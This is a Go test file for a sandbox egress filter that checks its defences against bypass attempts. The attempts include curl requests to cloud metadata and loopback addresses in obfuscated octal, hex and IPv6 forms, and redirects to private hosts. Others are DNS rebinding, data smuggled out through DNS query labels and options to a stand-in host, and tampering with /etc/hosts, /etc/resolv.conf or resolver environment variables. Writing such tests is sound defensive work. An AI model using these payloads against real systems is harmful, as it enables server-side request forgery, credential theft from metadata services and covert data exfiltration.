package main

import (
	"fmt"
	"net/http"
	"strings"
	"testing"

	"github.com/writ-run/writ/egress/lab"
)

// B: addresses that are not public, however they are written and whoever says them.
func TestAttackB(t *testing.T) {
	if !lab.Run(t) {
		return
	}
	special := []string{"0.0.0.0", "10.20.30.40", "100.64.0.1", "100.100.100.200", "127.0.0.1", "168.63.129.16", "169.254.169.254", "169.254.170.2", "172.16.0.1", "192.0.0.1", "192.0.2.1",
		"192.88.99.1", "192.168.0.1", "198.18.0.1", "198.51.100.1", "203.0.113.1", "224.0.0.1", "240.0.0.1", "255.255.255.255"}
	answers, hosts := map[string][][]string{}, []string{"good.test:80"}
	for i, a := range special {
		answers[fmt.Sprintf("s%d.test", i)] = [][]string{{a}}
		hosts = append(hosts, fmt.Sprintf("s%d.test:80", i))
	}
	s := besiege(t, answers)
	lab.Serve(t, lab.Public+":81", nil, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, strings.TrimPrefix(r.URL.Path, "/"), http.StatusFound)
	}))
	var rows []attack
	for _, to := range []string{"2130706433", "0177.0.0.1", "0x7f.1", "127.1", "0", "0x7f000001", "017700000001", "127.0.0.1", "localhost", "localhost6"} { // the box's own loopback, where nobody listens
		rows = append(rows, attack{"literal " + to, nil, "curl -sSm 5 http://" + to + "/", `curl: \((6|7)\)`})
	}
	for _, to := range []string{"169.254.169.254", "2852039166", "0251.0376.0251.0376", "10.20.30.40", "169.16689662"} {
		rows = append(rows, attack{"literal " + to, nil, "curl -sSm 5 http://" + to + "/", `nobodys_address \((--allow-host [0-9.]+:80 with --allow-range [0-9.]+/32 would allow it|it is metadata)\)`})
	}
	for _, to := range append([]string{"::", "::ffff:127.0.0.1", "::ffff:7f00:1", "::127.0.0.1", "::ffff:0:7f00:1", "fe80::5efe:7f00:1", "fec0::1", "2001:db8::1"}, forbidden6...) {
		rows = append(rows, attack{"literal " + to, nil, "curl -gsSm 5 'http://[" + to + "]/'", `curl: \(7\).*(refused|unreachable|Couldn't connect)`})
	}
	for i, a := range special {
		rows = append(rows, attack{"a name that is " + a, hosts, fmt.Sprintf("curl -sSm 5 http://s%d.test/", i), fmt.Sprintf(`dns s%d\.test: address_not_open \(its address %s is `, i, strings.ReplaceAll(a, ".", `\.`))})
	}
	for _, to := range []string{"http://169.254.169.254/", "http://10.20.30.40/", "http://bad.test/", "http://0x7f.1/", "http://93.184.216.35/"} {
		rows = append(rows, attack{"a redirect to " + to, []string{"good.test:80", "good.test:81"}, "curl -LsSm 5 --proto-redir all 'http://good.test:81/" + to + "'", `curl: \((6|7|56)\)`})
	}
	for _, name := range []string{"metadata.google.internal", "host.docker.internal", "kubernetes.default.svc", "instance-data"} {
		rows = append(rows, attack{"the name " + name, nil, "curl -sSm 5 http://" + name + "/", `Could not resolve host && host_not_allowed`})
	}
	s.try(t, append(rows,
		attack{"a record of IPv6 is not told", nil, "#py\nask([b'good', b'test'], 28)", `^rcode 0 answers 0\n$`},
		attack{"the box has no IPv6 but its loopback", nil, "cat /proc/net/if_inet6 | grep -v ' lo$'; ls /proc/sys/net/ipv6/conf | sort | tr '\\n' ' '; cat /proc/net/ipv6_route | grep -v ' lo$'; true", `^((all default lo )|ls: [^\n]*\n|cat: [^\n]*\n)*$`},
	))
	s.leaked(t, append([]string{"good.test"}, keysOf(answers)...)...)
}

func keysOf(m map[string][][]string) (out []string) {
	for k := range m {
		out = append(out, k)
	}
	return out
}

// C: what names are made to mean, and what questions carry out.
func TestAttackC(t *testing.T) {
	if !lab.Run(t) {
		return
	}
	s := besiege(t, map[string][][]string{
		"moves.test": {{lab.Public}, {lab.Private}}, "back.test": {{lab.Private}, {lab.Public}}, "alias.test": {{"inner.test"}}, "inner.test": {{lab.Private}},
		"chain.test": {{"link.test"}}, "link.test": {{"inner.test"}}, "fair.test": {{"good.test"}}, "mixed.test": {{lab.Public, lab.Metadata}},
	})
	hosts := []string{"good.test:80", "moves.test:80", "back.test:80", "alias.test:80", "chain.test:80", "fair.test:80", "mixed.test:80"}
	long := strings.Repeat("x", 63)
	const nobody = `^(rcode 3 answers 0\n)+`
	s.try(t, []attack{
		{"rebinding, public then private", hosts, `#py
a = socket.gethostbyname("moves.test"); print(a)
said(lambda: socket.gethostbyname("moves.test"))
said(lambda: socket.create_connection((PRIVATE, 80)).recv(1))
talk(b"GET / HTTP/1.0\r\nHost: moves.test\r\n\r\n", a)`, `^93\.184\.216\.34\ngaierror [^\n]*\n(ConnectionResetError|ConnectionRefusedError)[^\n]*\n.*GET moves\.test at 93 && address_not_open && nobodys_address`},
		{"rebinding, private then public", hosts, `#py
said(lambda: socket.gethostbyname("back.test"))
a = socket.gethostbyname("back.test"); print(a)
said(lambda: socket.create_connection((PRIVATE, 80)).recv(1))`, `^gaierror [^\n]*\n93\.184\.216\.34\n(ConnectionResetError|ConnectionRefusedError)`},
		{"an alias of a private name", hosts, "curl -sSm 5 http://alias.test/", `dns alias\.test: address_not_open`},
		{"an alias of an alias of one", hosts, "curl -sSm 5 http://chain.test/", `dns chain\.test: address_not_open`},
		{"an alias of a public name is fair", hosts, "curl -sSm 5 http://fair.test/", `^GET fair\.test at 93`},
		{"one answer of two is metadata", hosts, "curl -sSm 5 http://mixed.test/", `dns mixed\.test: address_not_open`},
		{"data below an allowed name", nil, "#py\nask([b'data', b'good', b'test']); ask([b'data', b'good', b'test'], tcp=True)", nobody},
		{"data below another name", nil, "#py\nask([b'data', b'bad', b'test']); ask([b'data', b'bad', b'test'], server=OTHER); ask([b'data', b'bad', b'test'], server=OTHER, tcp=True)", nobody},
		{"long labels", nil, "#py\nask([b'" + long + "', b'" + long + "', b'bad', b'test']); ask([b'" + long + "'] * 3 + [b'good', b'test'], server=OTHER)", nobody},
		{"TXT, NULL, MX, SRV, PTR, ANY and transfers of another name", nil, "#py\nfor k in (16, 10, 15, 33, 12, 255): ask([b'data', b'bad', b'test'], k); ask([b'data', b'bad', b'test'], k, server=OTHER, tcp=True)", nobody},
		{"TXT of the allowed name", nil, "#py\nfor k in (16, 10, 15, 33, 12, 65, 255, 252): ask([b'good', b'test'], k, server=OTHER)", `^(rcode 0 answers 0\n)+$`},
		{"letters that carry something", nil, "#py\nask([b'gOoD', b'TeSt'])", `^rcode 0 answers 1\n$`},
		{"options that carry something", nil, "#py\nask([b'good', b'test'], more=b'\\0' + struct.pack('>HHIH', 41, 1232, 0, 12) + struct.pack('>HH', 65001, 8) + b'mysecret')", `^rcode 0 answers 1\n$`},
		{"another class", nil, "#py\nask([b'version', b'bind'], 16, klass=3)", `^rcode 5 answers 0\n && dns version\.bind: malformed \(it is not one question about a name of the internet\)`},
		{"an update", nil, "#py\nask([b'good', b'test'], 6, flags=0x2800)", `^rcode (4|5) `},
		{"names over TLS", nil, "openssl s_client -connect 93.184.216.35:853 </dev/null 2>&1; openssl s_client -connect good.test:853 </dev/null 2>&1", `connect 93\.184\.216\.35:853: nobodys_address && connect 93\.184\.216\.34:853: host_not_allowed`},
		{"names by multicast", nil, "#py\nfor to in [('224.0.0.251', 5353), ('224.0.0.252', 5355), ('93.184.216.35', 5353)]:\n  s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(0.3)\n  def f(): s.sendto(b'x' * 20, to); return s.recv(1)\n  said(f)", `^((OSError|TimeoutError|timeout|PermissionError|ConnectionRefusedError) ?[^\n]*\n){3}$`},
		{"/etc/hosts and /etc/resolv.conf", nil, "echo '93.184.216.35 good.test' >>/etc/hosts; echo 'nameserver 93.184.216.35' >/etc/resolv.conf; curl -sSm 5 http://bad.test/", `(Read-only file system|Permission denied).*(Read-only file system|Permission denied).*Could not resolve host: bad\.test`},
		{"LOCALDOMAIN", nil, "LOCALDOMAIN=bad.test curl -sSm 5 http://data/", `Could not resolve host: data`},
		{"HOSTALIASES", nil, "echo 'plain bad.test' >aliases; HOSTALIASES=$PWD/aliases curl -sSm 5 http://plain/", `Could not resolve host: plain`},
		{"RES_OPTIONS", nil, "RES_OPTIONS='use-vc ndots:9 edns0 trust-ad' curl -sSm 5 http://bad.test/; RES_OPTIONS=use-vc curl -sSm 5 http://good.test/", `Could not resolve host: bad\.test && GET good\.test at 93`},
	})
	s.leaked(t, "good.test", "moves.test", "back.test", "alias.test", "chain.test", "fair.test", "mixed.test")
}
